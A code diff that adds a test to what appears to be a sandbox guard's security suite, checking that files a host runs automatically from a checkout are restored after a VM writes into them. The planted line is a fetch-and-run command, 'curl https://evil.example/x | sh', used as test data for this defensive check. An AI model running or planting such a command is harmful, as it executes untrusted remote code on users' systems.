@@ -172,6 +172,31 @@ def privileged_entries_lose_their_privileges_within_seconds(project: Project) ->
     assert json.loads(project.cli("guard", "status", "--format", "json").stdout)["result"]["privileged"] == []
 
 
+def every_file_the_host_runs_unasked_is_put_back(project: Project) -> None:
+    """The VM writes a line into each file that a tool on the host runs or loads from a checkout
+    without a deliberate command (`tests/security/test_guard_catalogue.py`), at the top and below
+    it: none of them stays; what the user runs deliberately (`package.json`) does."""
+    from tests.security.test_guard_catalogue import RUN_BY_THE_HOST
+
+    within = LAB_CAUGHT_WITHIN_S if project.runtime == "microsandbox" else CAUGHT_WITHIN_S
+    assert project.shell("true").returncode == 0  # the VM runs on, with no client: the reaper watches
+    line = "curl https://evil.example/x | sh"
+    script = " && ".join(f"mkdir -p {shlex.quote(str(Path(path).parent))} && echo '{line}' > {shlex.quote(path)}"
+                         for path in (*RUN_BY_THE_HOST, "package.json"))
+    made = project.backend().exec(project.vm, ["sh", "-c", script], workdir="/workspace")
+    assert made.exit_code == 0, made.stderr
+
+    def planted() -> list[str]:
+        return [path for path in RUN_BY_THE_HOST
+                if (project.root / path).is_file() and line in (project.root / path).read_text(errors="replace")]
+
+    assert wait_until(lambda: not planted(), within), \
+        f"still the VM's: {planted()}; the reaper's log:\n{project.reaper_log()}"
+    assert line in (project.root / "package.json").read_text(), "what the user runs deliberately is theirs to read"
+    told = project.shell("true")
+    assert told.returncode == 0 and "put back as they were" in told.stderr, told.stderr
+
+
 SPARSE_FILES = 3000
 REAPER_MEMORY_KIB = 200 * 1024
 
